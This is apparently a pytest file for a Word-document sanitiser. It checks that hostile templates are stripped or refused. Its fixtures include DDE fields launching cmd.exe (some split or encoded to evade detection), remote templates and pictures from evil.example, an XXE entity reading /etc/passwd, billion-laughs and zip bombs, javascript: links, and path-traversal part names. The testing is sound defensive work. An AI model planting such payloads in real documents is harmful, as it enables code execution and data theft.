"""What came from outside is made harmless or refused; every row stands in the table of the documentation."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from lxml import etree

from kcss_core.errors import FileError
from kcss_docx import archive
from kcss_docx.guard import guard
from kcss_docx.pictures import solid

from .templates import BODY, W, document, field, relations, template, types

REL = "word/_rels/document.xml.rels"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RID = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"'


def drawing(relation: str, more: str = "") -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="x">'
        f'<pic:pic><pic:blipFill><a:blip {relation}>{more}</a:blip></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


# What is taken out: name, parts and body, what must be gone, what is said.
TAKEN = {
    "macros": (
        {"[Content_Types].xml": types(_MACRO), REL: relations("rId9 http://schemas.microsoft.com/office/2006/relationships/vbaProject vbaProject.bin"), "word/vbaProject.bin": b"\xd0\xcf"},
        BODY, "vbaProject", ["word/document.xml: macros"],
    ),
    "macros that no relationship names": (
        {"word/vbaProject.bin": b"\xd0\xcf"}, BODY, "vbaProject", ["word/vbaProject.bin: macros"],
    ),
    "attached template on a server": (
        {REL: relations("rId1 settings settings.xml"), "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate {_RID}/></w:settings>',
         "word/_rels/settings.xml.rels": relations("rId9 attachedTemplate https://evil.example/t.dotm !")},
        BODY, "attachedTemplate", ["word/settings.xml: an attached template from outside (https://evil.example/t.dotm)"],
    ),
    "picture on a server": (
        {REL: relations("rId9 image https://evil.example/pixel.png !")},
        drawing('r:link="rId9"') + BODY, "rId9", ["word/document.xml: a picture from outside (https://evil.example/pixel.png)"],
    ),
    "embedded object": (
        {REL: relations("rId9 oleObject embeddings/oleObject1.bin"), "word/embeddings/oleObject1.bin": b"\xd0\xcf"},
        '<w:p><w:r><w:object><o:OLEObject r:id="rId9"/></w:object></w:r></w:p>' + BODY, "OLEObject", ["word/document.xml: an embedded object"],
    ),
    "object on a server": (
        {REL: relations("rId9 oleObject file:///c:/x.xls !")},
        '<w:p><w:r><w:object><o:OLEObject r:id="rId9"/></w:object></w:r></w:p>' + BODY, "OLEObject",
        ["word/document.xml: an embedded object", "word/document.xml: an embedded object from outside (file:///c:/x.xls)"],
    ),
    "ActiveX control": (
        {REL: relations("rId9 control activeX/activeX1.xml"), "word/activeX/activeX1.xml": "<x/>"},
        '<w:p><w:r><w:pict><w:control r:id="rId9"/></w:pict></w:r></w:p>' + BODY, "control", ["word/document.xml: an ActiveX control"],
    ),
    "foreign document": (
        {REL: relations("rId9 aFChunk chunk.html"), "word/chunk.html": "<script>"},
        '<w:altChunk r:id="rId9"/>' + BODY, "altChunk", ["word/document.xml: an embedded foreign document"],
    ),
    "linked document": (
        {REL: relations("rId9 subDocument https://evil.example/a.docx !")},
        '<w:subDoc r:id="rId9"/>' + BODY, "subDoc",
        ["word/document.xml: a linked document", "word/document.xml: a linked document from outside (https://evil.example/a.docx)"],
    ),
    "DDE field": ({}, field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"') + BODY, "instrText", ['word/document.xml: a field (DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc")']),
    "DDE field split over runs": ({}, field("DD", "EAU", "TO cmd calc") + BODY, "instrText", ["word/document.xml: a field (DDEAUTO cmd calc)"]),
    "DDE field spelt by another field": (
        {},
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' + BODY,
        "instrText", ["word/document.xml: a field (cmd)"],
    ),
    "DDE field in one element": ({}, '<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' + BODY, "fldSimple", ["word/document.xml: a field (DDE cmd)"]),
    "included file": ({}, field("INCLUDETEXT", ' "\\\\evil\\share\\x.docx"') + BODY, "instrText", ['word/document.xml: a field (INCLUDETEXT "\\\\evil\\share\\x.docx")']),
    "included picture": ({}, field("INCLUDEPICTURE https://evil.example/x.png") + BODY, "instrText", ["word/document.xml: a field (INCLUDEPICTURE https://evil.example/x.png)"]),
    "field that runs a macro": ({}, field("MACROBUTTON AutoOpen here") + BODY, "instrText", ["word/document.xml: a field (MACROBUTTON AutoOpen here)"]),
    "field without end": ({}, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>' + BODY, "instrText", ["word/document.xml: a field (DDE x)"]),
    "link that runs a program": (
        {REL: relations("rId9 hyperlink file:///c:/windows/calc.exe !")},
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>' + BODY, "hyperlink",
        ["word/document.xml: a link from outside (file:///c:/windows/calc.exe)"],
    ),
    "link in a field": ({}, field('HYPERLINK "javascript:alert(1)"') + BODY, "instrText", ['word/document.xml: a field (HYPERLINK "javascript:alert(1)")']),
    "link of a drawing": ({}, '<w:p><w:r><w:pict><v:rect href="file:///c:/x.exe"/></w:pict></w:r></w:p>' + BODY, "href", ["word/document.xml: a link (file:///c:/x.exe)"]),
    "SVG with a script": (
        {REL: relations("rId1 image media/a.png", "rId9 image media/a.svg"), "word/media/a.png": solid("FF0000"), "word/media/a.svg": b"<svg><script>alert(1)</script></svg>"},
        drawing('r:embed="rId1"', '<a:extLst><a:ext uri="{9}"><x:svgBlip xmlns:x="urn:x" r:embed="rId9"/></a:ext></a:extLst>') + BODY,
        "svgBlip", ["word/document.xml: the picture word/media/a.svg, which is SVG and may hold scripts"],
    ),
    "program called a picture": (
        {REL: relations("rId9 image media/a.png"), "word/media/a.png": b"MZ\x90\0"},
        drawing('r:embed="rId9"') + BODY, "rId9", ["word/document.xml: the picture word/media/a.png, which is of an unknown kind"],
    ),
    "picture of billions of pixels": (
        {REL: relations("rId9 image media/a.png"), "word/media/a.png": solid("FF0000").replace(struct.pack(">II", 1, 1), struct.pack(">II", 60_000, 60_000))},
        drawing('r:embed="rId9"') + BODY, "rId9",
        ["word/document.xml: the picture word/media/a.png, which is broken or has more pixels than any photograph"],
    ),
    "commands on the ribbon": (
        {"_rels/.rels": relations("rId1 officeDocument word/document.xml", "rId2 http://schemas.microsoft.com/office/2006/relationships/ui/extensibility customUI/customUI.xml"), "customUI/customUI.xml": "<x/>"},
        BODY, "customUI", ["the document: commands added to the ribbon"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", TAKEN)
def test_what_could_do_harm_is_taken_out_and_listed(name):
    """What stood there is gone from every part that may be used, the rest is there, and it is said what and where."""
    more, body, gone, said = TAKEN[name]
    guarded = guard(template(more, body), "house.docx")
    left = b"".join(etree.tostring(tree) for tree in guarded.trees.values()).decode()
    assert gone not in left
    assert "Words of the template" in left
    assert guarded.removed == said
    assert not any(part.endswith((".bin", ".html", ".svg")) for part in (*guarded.blobs, *guarded.trees))


def _bomb() -> bytes:
    return template({"word/styles.xml": b"<x>" + b" " * 30_000_000, REL: relations("rId1 styles styles.xml")})


def _named(path: str) -> bytes:
    data = template({"word/aaaaaaaaaaaaaaaaaaaa.xml": "<x/>"})
    assert len(path) == len("word/aaaaaaaaaaaaaaaaaaaa.xml")
    return data.replace(b"word/aaaaaaaaaaaaaaaaaaaa.xml", path.encode())


def _twice() -> bytes:
    return template({"word/Document.xml": document()})


def _locked() -> bytes:
    data = bytearray(template())
    for at in range(len(data) - 4):
        if data[at : at + 4] in (b"PK\x03\x04", b"PK\x01\x02"):
            data[at + (6 if data[at + 2] == 3 else 8)] |= 1
    return bytes(data)


def _archive(name: str, part: bytes) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(name, part)
    return buffer.getvalue()


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + document()
_FAR = "the part 'word/styles.xml' unpacks to far more than a document holds; do not open it; ask who sent it"
_OUT = "which leads out of the document; open it in Word and save it as .docx"
_TYPE = "the part 'word/document.xml' declares a document type, which no program for documents writes; ask who sent it"
_PASSWORD = "the file has a password; open it in Word, take the password away and save it"
REFUSED = {
    "zip bomb": (_bomb, _FAR),
    "thousands of parts": (lambda: template({f"word/{n}.xml": "" for n in range(3_000)}), "expected at most 3000 parts, got 3003; open it in Word and save it as .docx"),
    "external entity": (lambda: template({"word/document.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + document()}), _TYPE),
    "billion laughs": (lambda: template({"word/document.xml": _LAUGHS}), _TYPE),
    "document type in UTF-16": (lambda: template({"word/document.xml": b"\xff\xfe" + _LAUGHS.encode("utf-16-le")}), _TYPE),
    "part above the folder": (lambda: _named("../../../../home/x/.bashrc.xm"), f"a part is called '../../../../home/x/.bashrc.xm', {_OUT}"),
    "absolute part": (lambda: _named("/etc/aaaaaaaaaaaaaaaaaaaa.xml"), f"a part is called '/etc/aaaaaaaaaaaaaaaaaaaa.xml', {_OUT}"),
    "part on a drive": (lambda: _named("C:\\windows\\aaaaaaaaaaaaaa.xml"), f"a part is called 'C:\\\\windows\\\\aaaaaaaaaaaaaa.xml', {_OUT}"),
    "two parts of one name": (_twice, "two parts are called 'word/Document.xml'; open it in Word and save it as .docx"),
    "password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), _PASSWORD),
    "password of the archive": (_locked, _PASSWORD),
    "Word 97": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "expected a Word document (.docx), got one of Word 97–2003; open it in Word and save it as .docx"),
    "RTF": (lambda: b"{\\rtf1 x}", "expected a Word document (.docx), got RTF; open it in Word and save it as .docx"),
    "workbook": (lambda: template({"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")}), "expected a Word document (.docx or .dotx), got an Excel workbook; name another file"),
    "OpenDocument": (lambda: _archive("mimetype", b"application/vnd.oasis.opendocument.text"), "expected a Word document (.docx or .dotx), got an OpenDocument file; open it in Word and save it as .docx"),
    "half a file": (lambda: template()[:200], "the file is broken or not complete; copy it again from where it came from"),
    "broken XML": (lambda: template({"word/document.xml": document()[:300]}), "the part 'word/document.xml' is broken; open it in Word and save it as .docx"),
    "Strict Open XML": (lambda: template({"word/document.xml": document().replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")}), "the document is saved as Strict Open XML; save it in Word as Word Document (*.docx)"),
    "empty file": (lambda: b"", "expected a Word document (.docx), got an empty file; open it in Word and save it as .docx"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_made_harmless_is_refused(name):
    """With one sentence that says what it is and what to do."""
    make, message = REFUSED[name]
    with pytest.raises(FileError) as caught:
        guard(make(), "house.docx")
    assert str(caught.value) == f"house.docx: {message}"


def test_a_file_beyond_all_measure_is_not_unpacked(monkeypatch):
    """Its size is looked at before anything else."""
    monkeypatch.setattr(archive, "LARGEST_FILE", 10)
    with pytest.raises(FileError) as caught:
        guard(template(), "house.docx")
    assert str(caught.value).startswith("house.docx: expected a Word document of at most 0 MB, got more; make its pictures smaller")


def test_what_does_no_harm_stays():
    """Fields that look at their own document, links to the web, pictures, comments gone without a word."""
    body = (
        field("PAGE \\* MERGEFORMAT") + field('IF ', '1 = 1 "a" "b"') + field('HYPERLINK "https://example.org"') + field("HYPERLINK \\l there")
        + '<w:p><w:commentRangeStart w:id="1"/><w:hyperlink r:id="rId9"><w:r><w:t>page</w:t></w:r></w:hyperlink></w:p>' + drawing('r:embed="rId1"') + BODY
    )  # fmt: skip
    more = {REL: relations("rId1 image media/a.png", "rId9 hyperlink https://example.org !"), "word/media/a.png": solid("FF0000")}
    guarded = guard(template(more, body), "house.docx")
    assert guarded.removed == []
    left = etree.tostring(guarded.trees["word/document.xml"]).decode()
    assert left.count("instrText") == 10
    assert 'r:id="rId9"' in left
    assert 'r:embed="rId1"' in left
    assert "comment" not in left
    assert guarded.blobs == {"word/media/a.png": solid("FF0000")}


def test_a_template_of_word_is_read_like_a_document():
    """``.dotx`` and ``.dotm`` differ in one content type."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    assert guard(template({"[Content_Types].xml": types(kind)}), "house.dotx").main == "word/document.xml"


def test_where_a_picture_of_the_template_was_taken_is_left_out():
    """Its metadata are cut like those of any photograph."""
    png = solid("FF0000")
    told = png[:33] + b"\0\0\0\x05tEXtplace" + b"\xf3\x97\xde\xb6" + png[33:]
    told = told.replace(b"\xf3\x97\xde\xb6", __import__("zlib").crc32(b"tEXtplace").to_bytes(4, "big"))
    guarded = guard(template({REL: relations("rId1 image media/a.png"), "word/media/a.png": told}), "house.docx")
    assert guarded.blobs == {"word/media/a.png": png}


def test_every_hostile_input_stands_in_the_documentation():
    """The table names each of them, and no other."""
    page = (Path(__file__).parents[3] / "docs/reference/word-templates.md").read_text(encoding="utf-8")
    rows = [line.split("|")[1].strip() for line in page.partition("## Hostile templates")[2].partition("\n## ")[0].splitlines() if line.startswith("| ")]
    assert rows[1:] == [*TAKEN, *REFUSED]
